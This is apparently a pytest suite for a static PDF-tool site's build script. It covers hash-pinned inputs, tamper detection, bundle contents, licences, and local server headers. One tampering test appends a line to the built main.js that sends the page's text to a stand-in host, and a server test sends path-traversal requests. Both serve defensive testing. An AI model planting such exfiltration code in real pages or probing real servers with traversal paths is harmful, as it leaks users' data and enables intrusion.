"""build.py: pinned inputs are refused when their hash differs, the check mode finds a tampered folder,
the folder holds only what the page needs, and the local server sends the right headers."""

from __future__ import annotations

import ast
import fnmatch
import gzip
import hashlib
import importlib.util
import io
import json
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import zipfile
from pathlib import Path
from urllib.error import HTTPError
from urllib.request import Request, urlopen

import pytest

REPO = Path(__file__).resolve().parents[2]


def _load():
    spec = importlib.util.spec_from_file_location("site_build", REPO / "build.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules["site_build"] = module
    spec.loader.exec_module(module)
    return module


build = sys.modules.get("site_build") or _load()


@pytest.fixture(scope="module")
def cache() -> Path:
    """The pinned downloads (fetched once into .cache/ if they are not there yet)."""
    for pin in build.PINS:
        build.fetch(pin)
    return build.CACHE


@pytest.fixture(scope="module")
def built(cache, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("build") / "dist"
    build.build(out, cache, quiet=True)
    return out


def test_a_changed_input_is_refused_with_expected_and_actual_hash(cache, tmp_path, capsys):
    bad_cache = tmp_path / "cache"
    shutil.copytree(cache, bad_cache)
    target = bad_cache / build.AES_JS.filename
    data = bytearray(target.read_bytes())
    data[100] ^= 1
    target.write_bytes(bytes(data))
    out = tmp_path / "dist"
    assert build.main(["--cache", str(bad_cache), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert f"expected sha256 {build.AES_JS.sha256}" in err
    assert f"actual   sha256 {hashlib.sha256(bytes(data)).hexdigest()}" in err
    assert "Traceback" not in err
    assert not out.exists()


def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_path, capsys):
    assert build.main(["--check", "--out", str(built)]) == 0
    copy = tmp_path / "dist"
    shutil.copytree(built, copy)
    original = (copy / "app" / "main.js").read_bytes()
    (copy / "app" / "main.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
    (copy / "pyodide" / "python_stdlib.zip").unlink()
    (copy / "extra.js").write_text("1")
    assert build.main(["--check", "--out", str(copy)]) == 1
    err = capsys.readouterr().err
    assert "changed: app/main.js" in err
    assert f"expected sha256 {hashlib.sha256(original).hexdigest()}" in err
    assert "missing: pyodide/python_stdlib.zip" in err
    assert "not in the manifest: extra.js" in err


def test_the_folder_holds_only_what_the_page_needs(built):
    files = {p.relative_to(built).as_posix() for p in built.rglob("*") if p.is_file()}
    for needed in ("index.html", "app/main.js", "app/files.js", "app/review.js", "app/drawing.js", build.ERROR_TITLES,
                   "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json", "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
                   "pyodide/python_stdlib.zip", "pyodide/pyodide-lock.json", "vendor/aes.mjs", "licences.txt",
                   "pdfjs/pdf.min.mjs", "pdfjs/pdf.worker.min.mjs", "pdfjs/wasm/openjpeg.wasm",
                   "pdfjs/cmaps/UniJIS-UCS2-H.bcmap", "bridge.js", "pages.js"):
        assert needed in files
    assert not [f for f in files if f.endswith((".map", ".d.ts")) or "console" in f]
    # Of pdf.js, neither its viewer nor its scripting sandbox, nor the build for this year's browsers only.
    assert sorted(f for f in files if f.startswith("pdfjs/") and not f.startswith("pdfjs/cmaps/")) == sorted(
        ["pdfjs/pdf.min.mjs", "pdfjs/pdf.worker.min.mjs", "pdfjs/wasm/jbig2.wasm", "pdfjs/wasm/openjpeg.wasm",
         "pdfjs/wasm/qcms_bg.wasm"])
    lock = json.loads((built / "pyodide/pyodide-lock.json").read_text())
    assert sorted(lock["packages"]) == ["charset-normalizer", "cryptography", "pagefurniture", "pdfminer-six"]
    for entry in lock["packages"].values():  # the browser checks each wheel against these
        assert entry["sha256"] == hashlib.sha256((built / "pyodide" / entry["file_name"]).read_bytes()).hexdigest()


def test_every_wheel_is_shipped_as_bytecode(built):
    """Source would be compiled at every start of the page (the stand-in for cryptography was, 9 modules)."""
    lock = json.loads((built / "pyodide/pyodide-lock.json").read_text())["packages"]
    for entry in lock.values():
        names = zipfile.ZipFile(built / "pyodide" / entry["file_name"]).namelist()
        assert [n for n in names if n.endswith(".pyc")], entry["name"]
        assert not [n for n in names if n.endswith(".py")], entry["name"]


def test_pdfminer_ships_without_its_character_maps_which_are_served_apart(built):
    wheel = zipfile.ZipFile(built / "pyodide" / build.PDFMINER.filename)
    names = wheel.namelist()
    assert "pdfminer/pdfdocument.pyc" in names  # precompiled for Pyodide's Python
    assert not [n for n in names if n.startswith("pdfminer/cmap/")]
    assert (built / "pyodide" / build.PDFMINER.filename).stat().st_size < 400_000
    original = zipfile.ZipFile(build.CACHE / build.PDFMINER.filename)
    maps = [n for n in original.namelist() if n.startswith("pdfminer/cmap/") and not n.endswith("/")]
    assert len(maps) > 100
    for name in maps:
        assert (built / "cmap" / name.removeprefix("pdfminer/cmap/")).read_bytes() == original.read(name)


def test_pdfminer_states_its_version_instead_of_looking_it_up(built):
    """The shipped pdfminer does not import importlib.metadata at start, says the pinned version, and its
    RECORD matches the __init__ that replaced the original."""
    wheel = zipfile.ZipFile(io.BytesIO(build.split_pdfminer(build.fetch(build.PDFMINER))[0]))
    init = wheel.read(build.PDFMINER_INIT)
    assert b"importlib" not in init and build.PDFMINER_VERSION_LOOKUP not in init
    namespace: dict = {}
    exec(compile(init, build.PDFMINER_INIT, "exec"), namespace)
    assert namespace["__version__"] == build.PDFMINER.version
    record = next(n for n in wheel.namelist() if n.endswith(".dist-info/RECORD"))
    lines = wheel.read(record).decode().splitlines()
    assert build._record_entry(build.PDFMINER_INIT, init) in lines
    assert not [line for line in lines if line.startswith("pdfminer/cmap/")]
    assert set(zipfile.ZipFile(built / "pyodide" / build.PDFMINER.filename).namelist()) >= {"pdfminer/__init__.pyc"}


def test_a_pdfminer_that_looks_its_version_up_differently_fails_the_build():
    original = zipfile.ZipFile(io.BytesIO(build.fetch(build.PDFMINER)))
    files = {info.filename: original.read(info) for info in original.infolist() if not info.is_dir()}
    files[build.PDFMINER_INIT] = files[build.PDFMINER_INIT].replace(build.PDFMINER_VERSION_LOOKUP,
                                                                    b'__version__ = "unknown"')
    with pytest.raises(build.BuildError, match="no longer looks its version up"):
        build.split_pdfminer(build._zip(files))


def test_our_wheel_is_the_package_in_py(built):
    wheel = zipfile.ZipFile(next((built / "pyodide").glob("pagefurniture-*.whl")))
    modules = {n for n in wheel.namelist() if n.startswith("pagefurniture/") and n.endswith((".py", ".pyc"))}
    package = REPO / "py" / "pagefurniture"
    sources = sorted(p for p in package.rglob("*.py") if "__pycache__" not in p.parts)
    assert len(modules) == len(sources)
    for source in sources:
        name = f"pagefurniture/{source.relative_to(package).as_posix()}"
        if name in modules:
            assert wheel.read(name) == source.read_bytes()
        else:  # bytecode for Pyodide's Python, which this Python cannot load: it carries the module's docstring
            docstring = ast.get_docstring(ast.parse(source.read_text()), clean=False)
            assert docstring and docstring.encode() in wheel.read(name + "c"), name


def test_every_third_party_file_served_is_covered_by_a_licence_entry(built):
    manifest = json.loads((built / "manifest.json").read_text())
    lock = json.loads((built / "pyodide/pyodide-lock.json").read_text())["packages"]
    # What this repository makes: the page's own files, our two wheels (py/), and what the build writes.
    own = {p.relative_to(REPO / "site").as_posix() for p in (REPO / "site").rglob("*") if p.is_file()}
    own |= {f"pyodide/{lock[key]['file_name']}" for key in ("pagefurniture", "cryptography")}
    own |= {"manifest.json", "licences.txt", "pyodide/pyodide-lock.json", build.ERROR_TITLES}
    text = (built / "licences.txt").read_text()
    entries = text.split("=" * 78 + "\n")[1:]
    heads, bodies = entries[0::2], entries[1::2]
    covered = {}
    for head, body in zip(heads, bodies, strict=False):
        fields = dict(line.split(": ", 1) for line in head.strip().splitlines()[1:])
        assert fields["Licence"] and fields["Source"].startswith("https://"), head
        assert len(body.strip()) > 500, f"no licence text for {head.splitlines()[0]}"
        for pattern in fields["Files"].split(", "):
            covered[pattern] = head.splitlines()[0]
    third_party = sorted(set(manifest["files"]) - own)
    assert len(third_party) > 100  # Pyodide, pdfminer's wheel and character maps, charset-normalizer, aes-js, pdf.js
    uncovered = [path for path in third_party if not any(fnmatch.fnmatchcase(path, p) for p in covered)]
    assert uncovered == []
    python = json.loads((built / "pyodide/pyodide-lock.json").read_text())["info"]["python"]
    assert set(covered.values()) == {"pyodide 314.0.7", f"Python {python}", "pdfminer.six 20260107",
                                     "charset-normalizer 3.5.3", "aes-js 3.1.2", "pdfjs-dist 6.5.438",
                                     "Adobe CMap resources (in pdfjs-dist) 6.5.438", "OpenJPEG (in pdfjs-dist) 6.5.438",
                                     "PDFium JBIG2 decoder (in pdfjs-dist) 6.5.438", "qcms (in pdfjs-dist) 6.5.438"}
    assert "Mozilla Public License Version 2.0" in text and text.count("Permission is hereby granted") == 5
    assert "Apache License" in text and "Adobe Systems Incorporated" in text
    assert 'href="licences.txt"' in (built / "index.html").read_text()


def _page_titles(built: Path) -> dict:
    """The error titles of the built page, as its module app/errors.js exports them (run under node)."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: the page's modules cannot be run outside the browser")
    script = ("const m = await import(process.argv[1]);"
              "console.log(JSON.stringify({titles: m.TITLES, page: m.PAGE_TITLES, bug: m.BUG_KIND}));")
    with tempfile.TemporaryDirectory() as tmp:
        shutil.copytree(built / "app", Path(tmp) / "app")
        (Path(tmp) / "package.json").write_text('{"type": "module"}')  # node reads .js as what they are: modules
        done = subprocess.run([node, "--input-type=module", "-e", script, str(Path(tmp) / "app" / "errors.js")],
                              capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_the_page_shows_the_title_errors_py_gives_each_kind(built):
    """Every kind of error of the package (its classes anywhere, once imported) has its title in the page."""
    import pagefurniture  # noqa: F401  (the whole package, so that every subclass of its errors is seen)
    from pagefurniture import errors

    package = {errors.BUG_KIND: errors.BUG_TITLE}
    todo = errors.PageFurnitureError.__subclasses__()
    while todo:
        kind = todo.pop()
        todo += kind.__subclasses__()
        if "kind" in kind.__dict__:  # one that names no kind of its own is its parent's kind
            package[kind.kind] = kind.__dict__["title"]  # its own title, not its parent's
    assert len(package) >= 10
    shown = _page_titles(built)
    assert shown["bug"] == errors.BUG_KIND
    assert not set(shown["page"]) & set(package), "a kind of errors.py has a second title in the page"
    assert shown["titles"] == {**package, **shown["page"]}


def test_every_kind_of_error_the_page_reports_has_a_title(built):
    """Each error the page's scripts make ({kind: "...", message}) or name by its kind is shown with a title."""
    titles = _page_titles(built)["titles"]
    used = set()
    for path in (REPO / "site").rglob("*.js"):
        text = path.read_text()
        used |= set(re.findall(r'kind: "([a-z-]+)",\s*message', text)) | set(re.findall(r'TITLES\["([a-z-]+)"\]', text))
    assert {"no-file", "unreadable", "boot", "cancelled", "limit", "wrong-password"} <= used
    assert sorted(used - set(titles)) == []


def test_a_kind_of_error_without_a_title_of_its_own_fails_the_build(built, tmp_path):
    source = tmp_path / "errors.py"
    text = build.ERRORS.read_text()
    source.write_text(text)
    assert build.error_titles(source) == (built / build.ERROR_TITLES).read_bytes()
    source.write_text(text + '\n\nclass Odd(DamagedPDF):\n    kind = "odd"\n')
    with pytest.raises(build.BuildError, match="Odd needs a title of its own"):
        build.error_titles(source)
    source.write_text(text + '\n\nclass Again(DamagedPDF):\n    kind = "damaged"\n    title = "Again"\n')
    with pytest.raises(build.BuildError, match="Again has the kind 'damaged' of another error"):
        build.error_titles(source)


def test_the_precompile_scripts_are_code_and_key_the_bytecode_cache(tmp_path, monkeypatch):
    for path in build.PRECOMPILE:
        if path.suffix == ".py":
            compile(path.read_text(), str(path), "exec")
        elif shutil.which("node"):
            assert subprocess.run(["node", "--check", str(path)], capture_output=True).returncode == 0, path
    scripts = tuple(tmp_path / path.name for path in build.PRECOMPILE)
    for source, copy in zip(build.PRECOMPILE, scripts, strict=False):
        shutil.copyfile(source, copy)
    monkeypatch.setattr(build, "PRECOMPILE", scripts)
    monkeypatch.setattr(build.shutil, "which", lambda name: None)  # a cache miss ships the sources: {}
    pyodide, wheels, sample = {"python_stdlib.zip": b"stdlib"}, {"a-1-py3-none-any.whl": b"wheel"}, b"%PDF-1.4"
    key = build.precompile_key({**{p.name: p.read_bytes() for p in scripts}, **pyodide, **wheels, "sample.pdf": sample})
    cache = tmp_path / "cache"
    cache.mkdir()
    with zipfile.ZipFile(cache / f"precompiled-{key}.zip", "w") as zf:
        zf.writestr("python_stdlib.zip", b"compiled")
    assert build.precompile(pyodide, wheels, sample, cache, quiet=True) == {"python_stdlib.zip": b"compiled"}
    scripts[1].write_text(scripts[1].read_text() + "# changed\n")
    assert build.precompile(pyodide, wheels, sample, cache, quiet=True) == {}


def test_the_build_is_reproducible(built, cache, tmp_path):
    again = tmp_path / "again"
    build.build(again, cache, quiet=True)
    assert json.loads((again / "manifest.json").read_text()) == json.loads((built / "manifest.json").read_text())


def test_our_files_name_no_other_origin(built):
    ours = {p.relative_to(REPO / "site").as_posix() for p in (REPO / "site").rglob("*") if p.suffix in (".html", ".js", ".css")}
    assert {"index.html", "app/main.js", "worker.js", "sw.js", "style.css"} <= ours
    for name in sorted(ours | {build.ERROR_TITLES}):
        text = (built / name).read_text()
        assert not re.search(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}/", text), name


def test_first_visit_payload_compressed_is_under_7_mb(built):
    manifest = json.loads((built / "manifest.json").read_text())
    total = later = 0
    for path in manifest["precache"]:
        data = (built / path).read_bytes()
        size = len(gzip.compress(data, 6)) if Path(path).suffix in build.COMPRESS else len(data)
        # pdf.js is imported when the first page is drawn; the service worker keeps it after "ready".
        if path.startswith(("pdfjs/", "pages.js")):
            later += size
        else:
            total += size
    print(f"\nfirst visit until ready: {total / 1e6:.3f} MB compressed; pdf.js after it: {later / 1e6:.3f} MB")
    assert total <= 7 * 1024 * 1024, total
    assert 0 < later < 1024 * 1024


def test_the_standard_library_is_trimmed_to_the_import_closure(built, cache):
    original = build.npm_files(build.fetch(build.PYODIDE, cache), ("python_stdlib.zip",))["python_stdlib.zip"]
    shipped = (built / "pyodide" / "python_stdlib.zip").read_bytes()
    names = set(zipfile.ZipFile(io.BytesIO(shipped)).namelist())
    # What the page imports (bytecode, as the run at build time touched it), what it may import later
    # (source: a codec), what the package defers (bytecode: gzip, for CJK maps, is looked up at every
    # start), every codec, and what Pyodide's own packages import, here asyncio for its event loop.
    assert {"zipfile/__init__.pyc", "html/entities.pyc", "gzip.pyc", "asyncio/base_events.pyc", "encodings/cp1252.py",
            "encodings/shift_jis.py", "_pyodide/_base.pyc"} <= names
    assert "gzip.py" not in names
    # What nothing the page runs imports (importlib.metadata: pdfminer is told its version, see build.py).
    for gone in ("importlib/metadata/__init__.py", "email/__init__.py", "pdb.py", "doctest.py", "pydoc.py", "_pyio.py", "_pyrepl/__init__.py", "multiprocessing/__init__.py",
                 "xml/__init__.py", "http/__init__.py", "xmlrpc/__init__.py", "sqlite3/__init__.py"):
        assert gone not in names and gone + "c" not in names, gone
    assert len(names) < 0.7 * len(zipfile.ZipFile(io.BytesIO(original)).namelist())


def test_a_trimmed_standard_library_that_lacks_a_module_of_the_closure_fails_the_build():
    files = {"json/__init__.pyc": b"", "os.py": b"", "encodings/__init__.py": b""}
    trimmed = build._zip(files)
    assert build.trimmed_stdlib(trimmed, json.dumps({"closure": ["encodings", "json", "os"]}).encode()) == trimmed
    with pytest.raises(build.BuildError, match=re.escape("lacks modules the page may import: json.decoder, zipfile")):
        build.trimmed_stdlib(trimmed, json.dumps({"closure": ["json", "json.decoder", "os", "zipfile"]}).encode())


@pytest.fixture(scope="module")
def served(built):
    server = build.make_server(built, 0, quiet=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


def get(url: str, **headers: str):
    return urlopen(Request(url, headers=headers))


def test_server_types_compression_and_revalidation(served):
    with get(served + "pyodide/pyodide.asm.wasm", **{"Accept-Encoding": "gzip"}) as response:
        assert response.headers["Content-Type"] == "application/wasm"
        assert response.headers["Content-Encoding"] == "gzip"
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        etag = response.headers["ETag"]
        body = gzip.decompress(response.read())
    assert body[:4] == b"\0asm"
    with get(served + "pyodide/pyodide.mjs") as response:
        assert response.headers["Content-Type"].startswith("text/javascript")
        assert "Content-Encoding" not in response.headers
    with pytest.raises(HTTPError) as caught:
        get(served + "pyodide/pyodide.asm.wasm", **{"If-None-Match": etag})
    assert caught.value.code == 304


def test_server_keeps_to_its_folder(served):
    for path in ("../build.py", "%2e%2e/build.py", "nothing-here.js"):
        with pytest.raises(HTTPError) as caught:
            get(served + path)
        assert caught.value.code == 404


def test_serving_on_a_taken_port_says_which_option_picks_another(built, capsys):
    taken = build.make_server(built, 0, quiet=True)
    try:
        port = taken.server_address[1]
        assert build.main(["--serve", "--no-build", "--out", str(built), "--port", str(port)]) == 1
    finally:
        taken.server_close()
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert f"cannot serve on port {port}" in err and "--port" in err


def test_the_github_pages_workflow_builds_as_the_readme_says_and_publishes_what_the_build_writes():
    import yaml  # PyYAML, pinned in tests/requirements.txt

    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "pages.yml").read_text())
    readme = (REPO / "README.md").read_text()
    section = readme.split("## Put it on the web", 1)[1].split("\n## ", 1)[0]
    documented = re.search(r"`(python build\.py[^`]*)`", section).group(1)
    steps = workflow["jobs"]["build"]["steps"]
    runs = [step["run"] for step in steps if "run" in step]
    assert runs[0] == documented  # the page is built the way the README tells a person to
    uploaded = [step for step in steps if step.get("uses", "").startswith("actions/upload-pages-artifact@")]
    assert [step["with"]["path"] for step in uploaded] == [build.OUT.relative_to(REPO).as_posix()]
    # yaml reads the key "on" as True.
    assert workflow[True]["push"]["branches"] == ["main"]
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert [step["uses"] for step in workflow["jobs"]["deploy"]["steps"]] == ["actions/deploy-pages@v4"]
    actions = [step["uses"] for job in workflow["jobs"].values() for step in job["steps"] if "uses" in step]
    assert all(re.fullmatch(r"actions/[a-z-]+@v\d+", action) for action in actions), actions
